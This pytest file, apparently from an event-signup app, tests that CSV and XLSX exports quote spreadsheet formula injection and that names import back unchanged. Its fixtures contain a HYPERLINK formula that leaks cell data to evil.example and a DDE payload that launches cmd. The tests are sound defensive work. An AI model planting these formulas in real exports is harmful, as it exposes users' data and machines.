"""Exports cannot run formulas in the organiser's spreadsheet, and still import back."""

from __future__ import annotations

import io

import openpyxl
import pytest

from excursions.cells import neutralise, restore
from excursions.exports import people_frame, to_csv, to_xlsx
from excursions.model import PersonRow
from excursions.registrations import guess_mapping, plan, read_table
from excursions.signups import Status
from tests.conftest import make_routes

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Klik")'
HOSTILE_NAMES = [HYPERLINK, "+45 1234", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]  # names hold no tabs (refused)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Søren Ærø", "Søren Ærø"),
        ("'quoted already", "'quoted already"),
        ("a=b", "a=b"),
    ],
)
def test_formula_starts_are_quoted_and_the_quote_comes_off_again(text, written):
    assert neutralise(text) == written
    assert restore(written) == text


def test_non_text_cells_are_left_alone():
    assert neutralise(3) == 3 and neutralise(None) is None


def hostile_people() -> list[PersonRow]:
    return [
        PersonRow(f"p{i}@example.dk", name, "=1+1", "r00", Status.CONFIRMED, None)
        for i, name in enumerate(HOSTILE_NAMES)
    ]


def test_no_csv_cell_starts_like_a_formula():
    routes = {r.id: r for r in make_routes([30])}
    text = to_csv(people_frame(hostile_people(), routes)).decode("utf-8-sig")
    cells = [cell for line in text.splitlines()[1:] for cell in line.split(";")]
    assert cells and not [c for c in cells if c.strip('"').startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_no_xlsx_cell_is_a_formula_and_names_stay_readable():
    routes = {r.id: r for r in make_routes([30])}
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(people_frame(hostile_people(), routes))))
    cells = [c for row in book.active.iter_rows(min_row=2) for c in row if c.value is not None]
    assert cells and {c.data_type for c in cells} <= {"s", "n"}
    assert [row[0].value for row in book.active.iter_rows(min_row=2)] == ["'" + n for n in HOSTILE_NAMES]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_exported_list_imports_back_with_the_names_as_they_were(fmt):
    routes = make_routes([30])
    frame = people_frame(hostile_people(), {r.id: r for r in routes})
    data = to_csv(frame) if fmt == "csv" else to_xlsx(frame)
    table = read_table(data, f"alle.{fmt}")
    rows = plan(table, guess_mapping(list(table.columns)), routes, {})
    assert [(r.name, r.organisation, r.route_id) for r in rows] == [(n, "=1+1", "r00") for n in HOSTILE_NAMES]
